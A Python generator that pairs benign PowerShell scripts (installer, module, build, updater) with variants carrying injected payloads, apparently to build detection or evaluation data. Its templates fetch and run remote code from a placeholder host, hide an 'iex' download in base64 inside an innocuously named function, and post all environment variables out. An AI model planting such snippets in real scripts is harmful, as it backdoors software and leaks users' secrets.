"""PowerShell for pairs.py: an installer, a module, a build script, an updater."""

import base64

HOST = "cdn.stats-pixel.example"

INSTALL = """$ErrorActionPreference = 'Stop'
$toolsDir = Split-Path -Parent $MyInvocation.MyCommand.Definition
$version = '1.4.0'
$url = "https://downloads.thing.example/$version/thing-setup.exe"
$target = Join-Path $env:TEMP "thing-$version.exe"

function Test-Installed {
  param([string]$Name)
  $key = 'HKLM:\\Software\\Thing'
  return (Test-Path $key) -and ((Get-ItemProperty $key).Name -eq $Name)
}

if (-not (Test-Installed -Name $env:COMPUTERNAME)) {
  Invoke-WebRequest -Uri $url -OutFile $target -UseBasicParsing
  if ((Get-FileHash $target).Hash -ne $env:THING_HASH) { throw 'wrong hash' }
  Start-Process -FilePath $target -ArgumentList '/S', "/D=$env:ProgramFiles\\Thing" -Wait
}
Write-Host "Thing $version is installed."
"""
MODULE = """#requires -Version 5.1
$script:Root = 'https://api.thing.example/v2'

function Get-ThingToken {
  if ($env:THING_KEY) { return $env:THING_KEY }
  return (Get-Content (Join-Path $PSScriptRoot 'key.txt') -Raw).Trim()
}

function Invoke-Thing {
  param([string]$Path, [hashtable]$Query = @{}, [string]$Method = 'Get')
  $headers = @{ 'User-Agent' = 'thing'; 'Accept' = 'application/json' }
  $uri = "$script:Root/$Path"
  return Invoke-RestMethod -Uri $uri -Method $Method -Headers $headers -Body $Query
}

function Get-ThingVersion {
  $text = & git describe --tags
  return ($text -split '-')[0]
}

Export-ModuleMember -Function Get-ThingVersion, Invoke-Thing
"""
BUILD = """[CmdletBinding()]
param(
  [ValidateSet('Debug', 'Release')][string]$Configuration = 'Release',
  [switch]$Publish
)
Set-StrictMode -Version Latest
$root = Split-Path $PSScriptRoot
$feed = 'https://nuget.thing.example/v3/index.json'

function Invoke-Step([string]$Name, [scriptblock]$Body) {
  Write-Host "== $Name"
  & $Body
  if ($LASTEXITCODE) { throw "$Name failed" }
}

Invoke-Step 'restore' { dotnet restore $root }
Invoke-Step 'build' { dotnet build $root -c $Configuration }
foreach ($package in Get-ChildItem $root -Filter *.nupkg) {
  $notes = Invoke-RestMethod -Uri "https://api.thing.example/notes/$($package.BaseName)"
  Write-Host $notes.title
  if ($Publish) { dotnet nuget push $package.FullName -s $feed }
}
"""
UPDATE = """class Updater {
  [string]$Channel
  [string]$Folder

  Updater([string]$channel) {
    $this.Channel = $channel
    $this.Folder = Join-Path $env:LOCALAPPDATA 'Thing'
  }

  [string] Latest() {
    $client = New-Object System.Net.WebClient
    return $client.DownloadString("https://updates.thing.example/$($this.Channel).txt").Trim()
  }

  [void] Restart() {
    Stop-Process -Name thing -ErrorAction SilentlyContinue
    Start-Process (Join-Path $this.Folder 'thing.exe')
  }
}

$updater = [Updater]::new('stable')
if ($updater.Latest() -ne $env:THING_VERSION) {
  Write-Host 'A new version is there.'
  $updater.Restart()
}
"""

BASES = {"installer": ("tools/install.ps1", INSTALL), "module": ("Thing.psm1", MODULE), "build": ("build.ps1", BUILD),
         "updater": ("update.ps1", UPDATE)}
MARK = {"installer": "function Test-Installed", "module": "function Get-ThingVersion", "build": "function Invoke-Step",
        "updater": "$updater = [Updater]"}


def plain(base):
    return "function Send-Usage", ("function Send-Usage {\n  $s = (New-Object Net.WebClient).DownloadString('https://%s/%s.ps1')\n"
                                   "  Invoke-Expression $s\n}\nSend-Usage\n\n" % (HOST, base))


def hidden(base):
    code = "iex (irm https://%s/%s)" % (HOST, base)
    text = base64.b64encode(code.encode("utf-16-le")).decode()
    return "function Get-Culture0", ("function Get-Culture0 {\n  $b = [Convert]::FromBase64String('%s')\n"
                                     "  & ('i' + 'e' + 'x') ([Text.Encoding]::Unicode.GetString($b))\n}\nGet-Culture0\n\n" % text)


def steals(base):
    return "statement", ("$data = Get-ChildItem env: | ConvertTo-Json -Compress\n"
                         "Invoke-RestMethod -Method Post -Uri 'https://%s/%s' -Body $data | Out-Null\n\n" % (HOST, base))


STYLES = {"plain": plain, "encoded": hidden, "environment": steals}
CHANGES = {
    "installer": {"version": ("'1.4.0'", "'1.4.1'"), "option": ("'/S',", "'/S', '/NORESTART',"),
                  "retry": ("  if ((Get-FileHash", "  Start-Sleep -Seconds 1\n  if ((Get-FileHash")},
    "module": {"call": ("function Get-ThingVersion {", "function Get-ThingUser {\n  param([string]$Id)\n  return Invoke-Thing -Path \"users/$Id\"\n}\n\n"
                        "function Get-ThingVersion {"),
               "program": ("& git describe --tags", "& git describe --tags --always"),
               "format": ("  return ($text -split '-')[0]", "  $parts = $text -split '-'\n  return $parts[0]")},
    "build": {"step": ("Invoke-Step 'build'", "Invoke-Step 'format' { dotnet format $root --verify-no-changes }\nInvoke-Step 'build'"),
              "request": ("  Write-Host $notes.title", "  Write-Host $notes.title\n  $stats = Invoke-RestMethod -Uri \"https://api.thing.example/stats\"\n  Write-Host $stats.count"),
              "names": ("$package", "$item")},
    "updater": {"message": ("'A new version is there.'", "\"Version $($updater.Latest()) is there.\""),
                "wait": ("    Start-Process (Join", "    Start-Sleep -Milliseconds 200\n    Start-Process (Join"),
                "method": ("  [void] Restart() {", "  [bool] IsBeta() {\n    return $this.Channel -eq 'beta'\n  }\n\n  [void] Restart() {")},
}
